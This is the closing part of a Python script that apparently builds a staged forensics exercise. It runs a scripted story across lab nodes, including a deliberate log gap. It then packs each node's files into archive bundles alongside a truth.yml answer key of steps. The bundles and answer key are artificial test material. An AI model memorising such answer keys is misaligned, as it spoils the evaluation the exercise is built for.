        a, b = iso(self.gap[0]), iso(self.gap[1])
        for s in T.steps:
            for x in s["lines"]:
                if s["node"] == "registry-2" and s["id"] != "registry-2-log-gap" and a <= x["utc"] <= b:
                    raise SystemExit("truth: a step lies in the cut stretch: " + s["id"])
        T.steps.sort(key=lambda s: s["from"])
        return T.steps

    def write(self):
        stage = self.collect()
        if self.errors:
            raise SystemExit("the story did not run as written:\n" + "\n".join(self.errors))
        counted = pack.rewrite(stage)
        sentences = [self.REWRITTEN_MESOS] if not self.quiet else []
        if counted:
            sentences += [f"In all bundles, before hashing: {k} ({v} times)." for k, v in sorted(counted.items())]
        sentences.append(self.REWRITTEN_TIMES)
        sentences.append("The systems ran in a namespace of their own with the story's addresses, node names and neutral paths, so that the collecting "
                         "machine's name, paths and package hosts were looked for in every file and name before hashing"
                         + ("" if counted else " and found nowhere; nothing had to be rewritten") + ".")
        sentences.append("Ray's event files that were opened and never written to were left out.")
        self.note(stage, sentences)
        steps = [] if self.quiet else self.truth(stage)
        out = self.a.out
        tmp = os.path.join(self.a.run, "bundles")
        os.makedirs(tmp)
        nodes = {n: v for n, v in NODES.items() if os.path.isdir(os.path.join(stage, n))}
        for n in nodes:
            tree, target = os.path.join(stage, n), os.path.join(tmp, BUNDLES[n])
            if n == "ray-worker-1":
                inner = os.path.join(self.a.run, n + ".tar.gz")
                pack.tar_gz(tree, n, inner)
                os.utime(inner, (self.t1.timestamp(),) * 2)
                pack.zip_file(inner, target)
            elif target.endswith(".zip"):
                pack.zip_tree(tree, n, target)
            else:
                pack.tar_gz(tree, n, target)
        dump(os.path.join(tmp, "truth.yml"), self.a.seed, (self.begin, self.t1), nodes, BUNDLES, sentences, steps)
        pack.sums(tmp)
        bad, n = pack.check_all(tmp)
        if bad:
            raise SystemExit("this machine shows through:\n" + "\n".join(bad[:40]))
        size = sum(os.path.getsize(os.path.join(tmp, f)) for f in os.listdir(tmp))
        if size > 8 * 1024 * 1024:
            raise SystemExit(f"bundles are too large: {size} bytes")
        os.makedirs(out, exist_ok=True)
        for f in os.listdir(tmp):
            shutil.copyfile(os.path.join(tmp, f), os.path.join(out, f))
        log(f"{len(nodes)} bundles, {size} bytes, {len(steps)} steps, {n} members checked -> {out}")


def main():
    p = argparse.ArgumentParser()
    p.add_argument("--seed", type=int, default=7)
    p.add_argument("--out", required=True)
    p.add_argument("--quiet", action="store_true", help="the same systems with ordinary traffic only")
    p.add_argument("--scale", type=float, default=1.0, help="length of the story (1 = about 8 minutes)")
    p.add_argument("--keep", help="copy the nodes' trees here, also when the run fails (for debugging)")
    a = p.parse_args()
    a.out = os.path.abspath(a.out)
    a.run = os.environ["TM_RUN"]
    s = Story(a)
    lab = Lab(a.run)
    try:
        s.start_all(lab)
        s.play()
        s.write()
    finally:
        s.stopping.set()
        lab.down()
        if a.keep:
            shutil.rmtree(a.keep, ignore_errors=True)
            pack.copy(os.path.join(a.run, "nodes"), a.keep + "/nodes")
            if os.path.isdir(os.path.join(a.run, "stage")):
                pack.copy(os.path.join(a.run, "stage"), a.keep + "/stage")


main()
